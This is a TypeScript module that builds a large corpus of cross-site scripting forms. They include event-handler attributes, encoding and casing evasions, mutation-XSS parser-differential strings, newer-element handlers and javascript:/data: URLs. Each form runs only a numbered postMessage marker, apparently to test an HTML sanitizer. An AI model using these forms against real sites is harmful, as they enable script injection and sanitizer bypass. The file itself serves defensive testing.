/**
 * Raw markup that a browser turns into code: elements × attributes × spellings × places. Each form calls `run` with its number.
 */
export function rawForms(): string[] {
  const forms: string[] = []
  const add = (form: (code: string) => string) => {
    const number = forms.length
    // A frame is a window of its own, and one of a `data:` URL is of another origin.
    forms.push(form(`parent.postMessage('ran ${number}','*')`))
  }
  for (const place of Object.values(places)) {
    for (const element of handlers) {
      for (const spell of Object.values(spellings)) add((code) => place(element(spell, code)))
    }
    for (const script of [...scripts, ...parsedTwice, ...newer]) add((code) => place(script(code)))
    for (const element of carriers) {
      for (const url of urls) add((code) => place(element(url(code))))
    }
  }
  return forms
}

type Spelling = (name: string, code: string) => string

/** How an attribute with code is spelt. */
const spellings: Record<string, Spelling> = {
  plain: (name, code) => ` ${name}="${code}"`,
  upperCase: (name, code) => ` ${name.toUpperCase()}="${code}"`,
  mixedCase: (name, code) => ` ${name.replace(/^on(.)/, (_, first: string) => `oN${first.toUpperCase()}`)}="${code}"`,
  afterSlash: (name, code) => `/${name}="${code}"`,
  spaced: (name, code) => `\n\t${name}\t=\n"${code}"`,
  references: (name, code) => ` ${name}="${references(code)}"`,
  withoutQuotes: (name, code) => ` ${name}=${code.replaceAll("'", '&#39;').replaceAll(' ', '&#32;')}`,
}

const references = (text: string) => [...text].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)};`).join('')

const handlers: ((spell: Spelling, code: string) => string)[] = [
  (spell, code) => `<img src="x:"${spell('onerror', code)}>`,
  (spell, code) => `<svg${spell('onload', code)}></svg>`,
  (spell, code) => `<details open${spell('ontoggle', code)}><summary>a</summary>b</details>`,
  (spell, code) => `<video><source src="x:"${spell('onerror', code)}></video>`,
  (spell, code) => `<audio src="x:"${spell('onerror', code)}></audio>`,
  (spell, code) => `<iframe src="about:blank"${spell('onload', code)}></iframe>`,
  (spell, code) => `<object data="x:"${spell('onerror', code)}></object>`,
  (spell, code) => `<style${spell('onload', code)}>b{}</style>`,
  (spell, code) => `<link rel="stylesheet" href="data:text/css,"${spell('onload', code)}>`,
  (spell, code) => `<input autofocus${spell('onfocus', code)}>`,
  (spell, code) => `<svg><animate attributeName="x" dur="1s"${spell('onbegin', code)} /></svg>`,
  (spell, code) => `<svg><image href="x:"${spell('onerror', code)} /></svg>`,
  (spell, code) => `<math><mtext><img src="x:"${spell('onerror', code)}></mtext></math>`,
  (spell, code) => `<body${spell('onload', code)}>`,
  (spell, code) => `<p title="</noscript><img src=x:${spell('onerror', code).replaceAll('"', '')}>">a</p>`,
]

const scripts: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT>${code}</SCRIPT>`,
  (code) => `<script/x>${code}</script\t>`,
  (code) => `<script type="module">${code}</script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:text/javascript,${code}"></script></svg>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<iframe srcdoc="${references(`<script>${code}</script>`)}"></iframe>`,
  (code) => `<noscript><p title="</noscript><script>${code}</script>"></p></noscript>`,
  (code) => `<math><annotation-xml encoding="text/html"><script>${code}</script></annotation-xml></math>`,
  (code) => `<svg><style><img src=x: onerror="${code}"></style></svg>`,
  (code) => `<!--><img src=x: onerror="${code}">-->`,
  (code) => `<svg></p><style><a title="</style><img src=x: onerror=${code.replaceAll(' ', '&#32;')}>"></svg>`,
]

/** What one parser reads as text, and another one as elements. */
const parsedTwice: ((code: string) => string)[] = [
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${code}&gt;">`,
  (code) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${code}">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) => `<svg><style>&lt;/style&gt;&lt;img src=x: onerror=${code}&gt;</style></svg>`,
  (code) => `<svg><title><style>&lt;/style&gt;&lt;img src=x: onerror=${code}&gt;</style></title></svg>`,
  (code) => `<svg><xmp>&lt;/xmp&gt;&lt;img src=x: onerror=${code}&gt;</xmp></svg>`,
  (code) => `<svg><textarea>&lt;/textarea&gt;&lt;img src=x: onerror=${code}&gt;</textarea></svg>`,
  (code) => `<select><option><style></select><img src=x: onerror=${code}></style></option></select>`,
  (code) => `<svg><![CDATA[</svg><img src=x: onerror=${code}>]]></svg>`,
  (code) => `<!-- --!><img src=x: onerror=${code}> -->`,
  (code) => `<?x ><img src=x: onerror=${code}> ?>`,
  // Browsers put elements that are deeper than 512 levels beside each other.
  (code) =>
    `${'<div>'.repeat(509)}<svg><style>&lt;/style&gt;&lt;img src=x: onerror=${code}&gt;</style></svg>${'</div>'.repeat(509)}`,
]

/** Elements and attributes that browsers have had since 2023. */
const newer: ((code: string) => string)[] = [
  (code) => `<button popovertarget="p">a</button><div id="p" popover onbeforetoggle="${code}">b</div>`,
  (code) => `<button command="--a" commandfor="q">a</button><div id="q" oncommand="${code}">b</div>`,
  (code) => `<dialog open closedby="any" onclose="${code}"><button command="close" commandfor="d">a</button></dialog>`,
  (code) => `<details name="d" open ontoggle="${code}"><summary>a</summary></details>`,
  (code) =>
    `<select><button><selectedcontent></selectedcontent></button><option><img src="x:" onerror="${code}"></select>`,
  (code) => `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${code}">a</div>`,
  (code) => `<p onscrollsnapchange="${code}" onscrollend="${code}" onpagereveal="${code}">a</p>`,
  (code) => `<permission type="geolocation" onpromptaction="${code}"></permission>`,
  (code) => `<geolocation autolocate onlocation="${code}"></geolocation>`,
  (code) =>
    `<p><template shadowrootmode="open" shadowrootclonable><slot onslotchange="${code}"></slot></template>a</p>`,
  (code) => `<template for="t"><img src="x:" onerror="${code}"></template><p id="t">a</p>`,
  (code) => `<script type="importmap">{"imports":{"react":"data:text/javascript,${code}"}}</script>`,
  (code) => `<script type="speculationrules">{"prerender":[{"urls":["/?${code}"]}]}</script>`,
  (code) => `<math><maction actiontype="statusline" xlink:href="javascript:${code}">a</maction></math>`,
  (code) =>
    `<svg><a xlink:href="#"><animate attributeName="href" from="javascript:${code}" to="#" dur="9s" /></a></svg>`,
]

/** URLs that run code. */
const urls: ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java&Tab;script:${code}`,
  (code) => `&#106;avascript&colon;${code}`,
  (code) => ` \n&#1;javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=&quot;${code}&quot;/>`,
]

const carriers: ((url: string) => string)[] = [
  (url) => `<a href="${url}">a</a>`,
  (url) => `<map name="m"><area href="${url}"></map>`,
  (url) => `<svg><a xlink:href="${url}"><text>a</text></a></svg>`,
  (url) => `<svg><a><animate attributeName="href" values="${url}" /><text>a</text></a></svg>`,
  (url) => `<svg><a><set attributeName="xlink:href" to="${url}" /><text>a</text></a></svg>`,
  (url) => `<svg><use href="${url}" /></svg>`,
  (url) => `<math href="${url}">a</math>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<form action="${url}"><button>a</button></form>`,
  (url) => `<form><button formaction="${url}">a</button></form>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<base href="${url}">`,
]

const places: Record<string, (html: string) => string> = {
  alone: (html) => html,
  shadow: (html) => `<div><template shadowrootmode="open">${html}</template></div>`,
  deepShadow: (html) =>
    `<div><template shadowrootmode="open"><p><template shadowrootmode="closed">${html}</template></p></template></div>`,
  list: (html) => `<ul><li><table><tr><td>${html}</td></tr></table></li></ul>`,
  foreign: (html) => `<svg><foreignObject><div>${html}</div></foreignObject></svg>`,
}
